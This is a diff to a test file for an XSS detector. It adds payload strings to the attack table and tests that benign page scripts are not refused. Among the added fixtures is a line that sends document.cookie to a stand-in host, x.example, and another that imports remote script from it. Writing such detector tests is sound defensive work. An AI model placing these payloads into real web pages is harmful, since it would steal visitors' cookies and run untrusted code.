@@ -41,6 +41,14 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     "<a title='<img src=q onerror=go()>'>x</a>",
     "<!-- <img src='--><img src=q onerror=go()>",
     "</a onmouseover=go()>",
+    "<p ng-focus=go()>",
+    "<p v-html='a(b)'>",
+    "<p @click='go()'>",
+    "<img src='//x.example/?",
+    "<portal src=//x.example>",
+    "<p style='behavior: url(#a)'>",
+    "<p style='color:red;}a{b:c'>",
+    "\u00bcscript\u00bego(1)\u00bc/script\u00be",
     "<a <img src=q onerror=go()>",
   ],
   "behind an element that holds text": ["</title><script>go()", "</textarea><svg onload=go()>", "</script>"],
@@ -74,6 +82,13 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     "new Function('x')()",
     "new Image().src='//x.example'",
     "confirm.call(null,1)",
+    "alert?.(1)",
+    "top?.['eval'](name)",
+    "import('//x.example/a.js')",
+    "setTimeout(code, 1)",
+    "setTimeout(() => { alert(1) })",
+    "fetch('//x.example/?'+document.cookie)",
+    "a();document.write(b)",
     "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
     "x=String.fromCharCode(97)",
   ],
@@ -158,6 +173,27 @@ test("markup quoted in a long post is a hint", () => {
 test("the same post is refused in a query, and with live markup outside of the quotation", () => {
   assert.ok(pointsOf(xssDetector, post, "query") >= refusalPoints);
   assert.ok(pointsOf(xssDetector, `<img src=q onerror=go()>\n${post}`, "body") >= refusalPoints);
+});
+
+test("a program that works on its page is no attack by itself", () => {
+  const program = [
+    "const list = document.querySelector('#list');",
+    "document.querySelectorAll('li').forEach((item) => {",
+    "  list.append(item);",
+    "});",
+    "onmessage = (event) => {",
+    "  setTimeout(function () {",
+    "    list.clear();",
+    "  }, 1000);",
+    "};",
+  ].join("\n");
+  assert.ok(pointsOf(xssDetector, program, "body") < refusalPoints);
+  assert.ok(pointsOf(xssDetector, `${program}\nsend(document.cookie);`, "body") >= refusalPoints);
+});
+
+test("an object of the page may be named in a sentence", () => {
+  const value = "Such a cookie can not be seen by a script in `document.cookie`, which is the point.";
+  assert.ok(pointsOf(xssDetector, value, "body") < refusalPoints);
 });
 
 test("a short text can't excuse its markup with backticks", () => {
